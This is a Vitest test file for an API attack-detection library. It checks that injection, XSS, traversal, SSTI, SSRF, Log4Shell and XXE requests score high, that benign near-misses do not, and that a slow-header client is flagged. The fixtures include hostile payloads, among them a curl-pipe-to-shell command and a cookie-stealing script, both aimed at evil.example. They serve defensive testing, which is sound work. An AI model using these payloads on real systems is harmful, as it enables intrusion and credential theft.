import { createServer } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Alert } from '../src/alert/alert.js';
import type { ApiSecurity } from '../src/api-security.js';
import { reaches } from '../src/assessment/level.js';
import { createApiSecurity } from '../src/create-api-security.js';
import { silentLogger } from '../src/logger.js';
import type { DescribedRequest } from '../src/observation/from-described-request.js';

let security: ApiSecurity;

beforeAll(async () => {
  // A busy machine must not look like a model that is stuck.
  security = createApiSecurity({ logger: silentLogger, limits: { timeMs: 10_000 } });
  await security.ready();
});
afterAll(() => security.close());

const query = (value: string): DescribedRequest => ({ method: 'GET', url: `/search?q=${encodeURIComponent(value)}` });
const json = (body: unknown): DescribedRequest => ({
  method: 'POST',
  url: '/items',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body),
});

function upload(name: string, type: string, content: Buffer): DescribedRequest {
  const head = `--b\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n`;
  return {
    method: 'POST',
    url: '/uploads',
    headers: { 'content-type': 'multipart/form-data; boundary=b' },
    body: Buffer.concat([Buffer.from(head), content, Buffer.from('\r\n--b--\r\n')]),
  };
}

describe('a single request with an attack reaches HIGH, whatever place it stands in', () => {
  it.each<[string, DescribedRequest]>([
    ['sqli', query("1' OR 1=1--")],
    ['sqli', json({ name: "x' UNION SELECT username, password FROM users-- -" })],
    ['nosqli', json({ user: 'admin', password: { $ne: null } })],
    ['nosqli', { method: 'GET', url: '/login?user=admin&password[$ne]=x' }],
    ['xss', query('<img src=x onerror=alert(document.cookie)>')],
    ['xss', json({ comment: '<script>fetch("//evil.example/"+document.cookie)</script>' })],
    ['traversal', query('../../../../etc/passwd')],
    ['traversal', { method: 'GET', url: '/files/..%252f..%252f..%252fetc%252fpasswd' }],
    ['cmdi', query('127.0.0.1; cat /etc/passwd')],
    ['cmdi', json({ host: '$(curl http://evil.example/x.sh | sh)' })],
    [
      'ssti',
      query("{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}"),
    ],
    ['ssrf', json({ avatar: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' })],
    ['log4shell', { method: 'GET', url: '/', headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } }],
    ['protopollution', json(JSON.parse('{"__proto__": {"isAdmin": true}}'))],
    [
      'xxe',
      {
        method: 'POST',
        url: '/import',
        headers: { 'content-type': 'application/xml' },
        body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
      },
    ],
  ])('%s: %j', async (category, request) => {
    const assessment = await security.analyze(request);
    expect(reaches(assessment.level, 'high'), JSON.stringify(assessment.scores)).toBe(true);
    expect(assessment.evidence[0]?.category).toBe(category);
    expect(assessment.recommendation).not.toBe('');
  });
});

describe('its near neighbour does not', () => {
  it.each<[string, DescribedRequest]>([
    ['a name', query("O'Brien")],
    ['prose with SQL words', query('select a plan from the list')],
    ['prose with SQL words', json({ note: 'Please drop the table reservation and update the order where needed.' })],
    ['arithmetic', query('1=1 is true, isn’t it?')],
    ['a comparison', json({ filter: 'price < 100 and stock > 3' })],
    ['two things', query('rock & roll; salt & pepper')],
    ['a plain URL', json({ webhook: 'https://hooks.example.com/services/T00/B00?x=1&y=2' })],
    ['a relative link', json({ text: 'See ../README.md and ./docs/setup.md for details.' })],
    ['a placeholder', json({ template: 'Hello {{name}}, your order {{order_id}} has shipped.' })],
    ['a shell variable', json({ note: 'Set ${HOME} or $PATH before you start.' })],
    [
      'Markdown with code',
      json({ body: '## Fix\n\nUse `npm run build` and then:\n\n```js\nconst a = b => b + 1;\n```\n' }),
    ],
    ['a bit of HTML', json({ bio: '<p>I like <b>bold</b> text and <a href="https://example.com">links</a>.</p>' })],
    ['a Windows path', json({ path: 'C:\\Users\\Maria\\Documents\\report.docx' })],
    ['many scripts', json({ name: '李小龙', city: 'Zürich', greeting: 'مرحبا', note: 'Привет, как дела?' })],
    ['a photo', upload('holiday.jpg', 'image/jpeg', Buffer.from('ffd8ffe000104a46494600010100aa0193', 'hex'))],
    ['a picture', upload("Zoë's tea (1).png", 'image/png', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'))],
    ['a spreadsheet', upload('list.csv', 'text/csv', Buffer.from('name;price\r\n"kettle, red";24.90\r\n'))],
    ['a filter of an API', { method: 'GET', url: '/orders?filter[status]=open&page[size]=20&sort=-created_at' }],
    [
      'a browser',
      {
        method: 'GET',
        url: '/',
        headers: {
          'user-agent':
            'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
          accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
          'accept-language': 'en-US,en;q=0.9,de;q=0.8',
          cookie: 'theme=dark; _ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2ln',
        },
      },
    ],
  ])('%s: %j', async (_, request) => {
    const assessment = await security.analyze(request);
    expect(reaches(assessment.level, 'high'), JSON.stringify(assessment)).toBe(false);
  });
});

describe('an attached server', () => {
  it('alerts within 30 s on a client that sends one header byte a second, and not on slow but honest ones', async () => {
    const watching = createApiSecurity({ logger: silentLogger });
    await watching.ready();
    const server = createServer((_, response) => response.end('ok'));
    const detach = watching.attach(server);
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    const { port } = server.address() as AddressInfo;
    const alerts: Alert[] = [];
    const alerted = new Promise<void>((resolve) =>
      watching.on('alert', (alert) => {
        alerts.push(alert);
        if (alert.assessment.client.address === '127.0.0.66') resolve();
      }),
    );

    const dripping = connect({ port, host: '127.0.0.1', localAddress: '127.0.0.66' });
    dripping.write('GET / HTTP/1.1\r\nHost: x\r\nX-Padding: ');
    const drip = setInterval(() => dripping.write('a'), 1_000);
    // A browser opens connections in advance; a person on a bad link takes seconds over a request.
    const speculative = connect({ port, host: '127.0.0.1', localAddress: '127.0.0.2' });
    const halting = connect({ port, host: '127.0.0.1', localAddress: '127.0.0.3' });
    halting.write('GET / HTTP/1.1\r\nHost: x\r\n');
    const rest = setTimeout(() => halting.write('Connection: close\r\n\r\n'), 4_000);

    const late = new Promise<void>((_, reject) =>
      setTimeout(() => reject(new Error('no alert within 30 s')), 30_000).unref(),
    );
    try {
      await Promise.race([alerted, late]);
      expect(new Set(alerts.map(({ assessment }) => assessment.client.address))).toEqual(new Set(['127.0.0.66']));
      expect(alerts[0]?.assessment).toMatchObject({ subject: 'connection', category: 'slow-attack' });
    } finally {
      clearInterval(drip);
      clearTimeout(rest);
      for (const socket of [dripping, speculative, halting]) socket.destroy();
      detach();
      server.close();
      await watching.close();
    }
  }, 40_000);
});
